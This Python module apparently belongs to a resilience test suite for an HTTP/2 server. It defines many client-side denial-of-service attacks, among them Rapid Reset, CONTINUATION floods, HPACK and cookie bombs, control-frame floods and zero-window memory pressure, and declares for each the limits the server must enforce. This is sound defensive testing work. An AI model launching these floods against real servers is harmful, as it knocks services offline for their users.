"""Attacks of a client on a server: each makes bytes that cost the server more than the client, for as long as they are taken.

An attack is a generator over a Peer behind its handshake that yields (bytes, how many frames these are). It declares what must come of it:
  ends      how many frames a connection may get rid of before the server ends it; None: it may go on, and only costs are bounded
  memory    by how many KB the process may grow, all connections of the attack together
  cpu       seconds of the server's processor, all connections together
  reads     False: the client takes nothing of what is sent back, so it notices the end only by writes that fail, if at all
  hold      seconds to wait behind the last byte
"""
import time

from wire import *  # the names of frames, codes and settings

ATTACKS = {}
FRAMES = 15000
BLOB = 500  # frames in a write
FEW = 40  # streams in a write, where more of them open at once would be a fault


def attack(name, ends=6000, memory=4096, cpu=0.6, reads=True, hold=0.0, connections=2):
    def add(make):
        ATTACKS[name] = dict(make=make, ends=ends, memory=memory, cpu=cpu, reads=reads, hold=hold, connections=connections)
        return make
    return add


def flood(one, frames=1, total=FRAMES):
    """The same frames again and again."""
    blob = one * BLOB
    for _ in range(0, total, BLOB * frames):
        yield blob, BLOB * frames


def plain(p, method="GET", path="/", more=()):
    """A block that changes no table, so that it may be sent again as it is."""
    return b"".join(literal(n.encode(), v.encode()) for n, v in p.request(method=method, path=path, more=more))


def streams(p, of_one, frames, total=FRAMES, block=None, blob=BLOB):
    """Opens stream after stream, `blob` of them in a write; of_one(stream, block) is what each costs."""
    block = block or plain(p, "POST")
    stream = 1
    for _ in range(0, total, blob * frames):
        yield b"".join(of_one(s, block) for s in range(stream, stream + 2 * blob, 2)), blob * frames
        stream += 2 * blob


# --- Streams that are ended at once (CVE-2023-44487, CVE-2025-8671)
@attack("rapid reset", ends=8000)
def rapid_reset(p):
    return streams(p, lambda s, b: headers(s, b) + rst(s), 2)


@attack("rapid reset of requests with a body", ends=8000)
def rapid_reset_post(p):
    return streams(p, lambda s, b: headers(s, b, end=False) + data(s, b"x" * 10) + rst(s), 3)


@attack("resets that the server is made to say, by WINDOW_UPDATE of 0", ends=8000)
def made_by_zero(p):
    return streams(p, lambda s, b: headers(s, b, end=False) + window_update(s, 0), 2, blob=FEW)


@attack("resets that the server is made to say, by a window that overflows", ends=8000)
def made_by_overflow(p):
    return streams(p, lambda s, b: headers(s, b, end=False) + window_update(s, 0x7fffffff), 2, blob=FEW)


@attack("resets that the server is made to say, by DATA on a half-closed stream", ends=8000)
def made_by_data(p):
    return streams(p, lambda s, b: headers(s, b) + data(s, b"x"), 2, blob=FEW)


@attack("resets that the server is made to say, by a dependency on itself", ends=8000)
def made_by_priority(p):
    return streams(p, lambda s, b: headers(s, b, end=False) + priority(s, s), 2, blob=FEW)


@attack("resets by NO_ERROR, as if the stream had ended well", ends=2500)
def reset_without_error(p):
    return streams(p, lambda s, b: headers(s, b, end=False) + rst(s, NO_ERROR), 2, block=plain(p, "POST", "/wait"))


@attack("resets that the server is made to say, by DATA beyond the length", ends=2000)
def made_by_excess(p):
    return streams(p, lambda s, b: headers(s, b, end=False) + data(s, b"xy"), 2, block=plain(p, "POST", "/wait", more=[("content-length", "1")]), blob=FEW)


@attack("resets that the server is made to say, by an end before the length", ends=2000)
def made_by_lack(p):
    return streams(p, lambda s, b: headers(s, b, end=False) + data(s, b"xy", end=True), 2, block=plain(p, "POST", "/wait", more=[("content-length", "9")]), blob=FEW)


@attack("malformed requests", ends=8000)
def malformed(p):
    return streams(p, lambda s, b: headers(s, b), 1, block=plain(p, more=[("Upper", "case")]), blob=FEW)


@attack("requests of no field, in empty HEADERS and CONTINUATION", ends=8000)
def empty_headers(p):
    return streams(p, lambda s, b: headers(s, b"", done=False) + continuation(s, b""), 2, blob=FEW)


# --- Field blocks
def endless(p, piece):
    yield headers(1, p.block(), done=False), 1
    yield from flood(continuation(1, piece, done=False), total=4000)


@attack("CONTINUATION without end, full of fields", ends=1000)
def continuation_full(p):
    return endless(p, literal(b"x-a", b"b" * 1000) * 16)


@attack("CONTINUATION without end, each of one field", ends=3000)
def continuation_small(p):
    return endless(p, literal(b"a", b"b"))


@attack("CONTINUATION without end and without content", ends=3000)
def continuation_empty(p):
    return endless(p, b"")


@attack("CONTINUATION without end, one now and then", ends=7, hold=1.0)
def continuation_slow(p):
    block = literal(b"x-a", b"b" * 100)
    yield headers(1, p.block() + block[:1], done=False), 1
    for i in range(1, 7):
        time.sleep(0.25)
        yield continuation(1, block[i:i + 1], done=False), 1


def bomb(p, references, stream=1, more=b""):
    """One entry of 4,000 bytes in the table, and a block that names it again and again."""
    return headers(stream, plain(p) + literal(b"x-bomb", b"b" * 4000, 0x40) + more + b"\xbe" * references)


@attack("an HPACK bomb: an entry of 4 KB named 12,000 times", ends=None, connections=4)
def hpack_bomb(p):
    yield bomb(p, 12000), 1


@attack("HPACK bombs, one behind the other", ends=1000)
def hpack_bombs(p):
    for i in range(1000):
        yield bomb(p, 12000, 1 + 2 * i), 1


@attack("small HPACK bombs, one behind the other", ends=500)
def small_bombs(p):
    yield headers(1, plain(p) + literal(b"x-bomb", b"b" * 4000, 0x40)), 1
    block = plain(p) + b"\xbe" * 240
    for at in range(3, 2 * 6000, 2 * FEW):
        yield b"".join(headers(s, block) for s in range(at, at + 2 * FEW, 2)), FEW


@attack("a bomb of cookies: crumbs of 1 KB named 12,000 times", ends=None, connections=4)
def cookie_bomb(p):
    yield headers(1, plain(p) + literal(b"cookie", b"c" * 1000, 0x40) + b"\xbe" * 12000), 1


@attack("a bomb of empty cookies", ends=None, connections=4)
def crumbs(p):
    yield headers(1, plain(p) + literal(b"cookie", b"", 0x40) + b"\xbe" * 16000), 1


@attack("a bomb in trailers", ends=None, connections=4)
def trailer_bomb(p):
    yield headers(1, plain(p, "POST"), end=False) + data(1), 2
    yield headers(1, literal(b"x-bomb", b"b" * 4000, 0x40) + b"\xbe" * 12000), 1


@attack("a bomb on a stream that the server has reset", ends=None, connections=4)
def late_bomb(p):
    yield headers(1, plain(p, "POST", more=[("Upper", "case")]), end=False), 1
    for _ in range(20):
        yield headers(1, literal(b"x-bomb", b"b" * 4000, 0x40) + b"\xbe" * 12000, end=False), 1


@attack("fields just below the limit, on a hundred streams that wait", ends=None, memory=24000, hold=0.3)
def full_heads(p):
    block = plain(p, "POST", more=[("x-%d" % i, "v" * 600) for i in range(90)])
    for s in range(1, 200, 2):
        yield headers(s, block[:16000], end=False, done=False) + b"".join(
            continuation(s, block[at:at + 16000], at + 16000 >= len(block)) for at in range(16000, len(block), 16000)), 4


# --- Frames that are answered
@attack("SETTINGS")
def settings_flood(p):
    return flood(settings((INITIAL_WINDOW_SIZE, 65535)))


@attack("SETTINGS whose answers nobody reads", ends=FRAMES, reads=False)
def settings_unread(p):
    return flood(settings((INITIAL_WINDOW_SIZE, 65535)))


@attack("SETTINGS that are full", ends=1500, cpu=1.5)
def settings_full(p):
    one = settings(*[(HEADER_TABLE_SIZE, i * 7919 % 65536) for i in range(2700)])
    for _ in range(400):
        yield one * 5, 5


@attack("the table's size up and down by thousands")
def table_sizes(p):
    return flood(settings((HEADER_TABLE_SIZE, 0), (HEADER_TABLE_SIZE, 65536)) + settings((HEADER_TABLE_SIZE, 4096)), 2)


@attack("size updates within blocks", ends=None)
def size_updates(p):
    block = (integer(0, 5, 0x20) + integer(4096, 5, 0x20)) * 3000 + plain(p)
    for s in range(1, 40, 2):
        yield headers(s, block), 1


@attack("PING")
def ping_flood(p):
    return flood(ping())


@attack("PING whose answers nobody reads", ends=2 * FRAMES, reads=False)
def ping_unread(p):
    return flood(ping(), total=2 * FRAMES)


# A stream may hold what the relay lets pile up for a client that does not take it, 64 KiB and one read; all of a worker's are bounded by limits.buffered.
PENDING = 2 * 100 * (64 + 64 + 10)  # KB: two attackers with a hundred streams each, which take some 10 KB of their own


# --- Frames that bring nothing
@attack("empty DATA")
def empty_data(p):
    yield headers(1, plain(p, "POST", "/wait"), end=False), 1
    yield from flood(data(1, b""))


@attack("DATA that is all padding", ends=12000)
def padding(p):
    yield headers(1, plain(p, "POST", "/wait"), end=False), 1
    yield from flood(data(1, b"", pad=255))


@attack("DATA that is a length of padding and nothing else")
def padding_of_nothing(p):
    yield headers(1, plain(p, "POST", "/wait"), end=False), 1
    yield from flood(data(1, b"", pad=0))


@attack("the windows of a hundred streams up and down", ends=8000, memory=PENDING, cpu=1.5)
def windows_up_and_down(p):
    block = plain(p, path="/big")
    yield b"".join(headers(s, block) for s in range(1, 200, 2)), 100
    yield from flood(settings((INITIAL_WINDOW_SIZE, 0)) + settings((INITIAL_WINDOW_SIZE, 0x7fffffff)) + settings((INITIAL_WINDOW_SIZE, 1)), 3)


@attack("PRIORITY")
def priorities(p):
    for at in range(1, 2 * FRAMES, 2 * BLOB):
        yield b"".join(priority(s, s + 2) for s in range(at, at + 2 * BLOB, 2)), BLOB


@attack("unknown frames")
def unknown(p):
    return flood(frame(0xbb, 0xff, 1))


@attack("unknown frames that are full", ends=3000)
def unknown_full(p):
    for _ in range(300):
        yield frame(0xbb, 0, 0, bytes(16384)) * 10, 10


@attack("WINDOW_UPDATE of the connection by one byte", ends=None)
def window_one(p):
    return flood(window_update(0, 1))


@attack("DATA on a stream that the server has reset", ends=None)
def late_data(p):
    yield headers(1, plain(p, "POST", more=[("Upper", "case")]), end=False), 1
    yield from flood(data(1, b""))


@attack("RST_STREAM on a closed stream", ends=None)
def late_rst(p):
    yield headers(1, plain(p)) + rst(1), 2
    yield from flood(rst(1))


# --- Replies that nobody takes


@attack("windows of 0 with a hundred large replies pending", ends=None, memory=PENDING, hold=0.5)
def zero_window(p):
    yield settings((INITIAL_WINDOW_SIZE, 0)), 1
    block = plain(p, path="/big")
    for s in range(1, 200, 2):
        yield headers(s, block), 1


@attack("a connection's window of 64 KB with a hundred large replies pending", ends=None, memory=PENDING, hold=0.5)
def small_window(p):
    yield settings((INITIAL_WINDOW_SIZE, 0x7fffffff)), 1
    block = plain(p, path="/big")
    for s in range(1, 200, 2):
        yield headers(s, block), 1


@attack("large replies that nobody reads from the socket", ends=None, memory=PENDING, hold=0.5, reads=False)
def unread(p):
    yield settings((INITIAL_WINDOW_SIZE, 0x7fffffff)) + window_update(0, 0x7fff0000 - 65535), 2
    block = plain(p, path="/big")
    for s in range(1, 200, 2):
        yield headers(s, block), 1


@attack("a large reply taken byte by byte", ends=None, cpu=1.5)
def one_byte(p):
    yield settings((INITIAL_WINDOW_SIZE, 0)) + headers(1, plain(p, path="/big")), 2
    for _ in range(60):
        yield window_update(1, 1) * 100, 100


# --- Streams that are opened and left
@attack("a hundred streams opened and left", ends=None, memory=8192, hold=0.3, connections=4)
def left_open(p):
    block = plain(p, "POST", "/wait")
    for s in range(1, 200, 2):
        yield headers(s, block, end=False), 1


@attack("more streams than are allowed, again and again", ends=8000, memory=8192)
def above_limit(p):
    return streams(p, lambda s, b: headers(s, b, end=False), 1, block=plain(p, "POST", "/wait"))


@attack("DATA beyond the window of a stream that is not read", ends=4000, memory=8192, cpu=1.0)
def beyond_window(p):
    yield headers(1, plain(p, "POST", "/stall"), end=False), 1
    for _ in range(400):
        yield data(1, bytes(16384)) * 10, 10
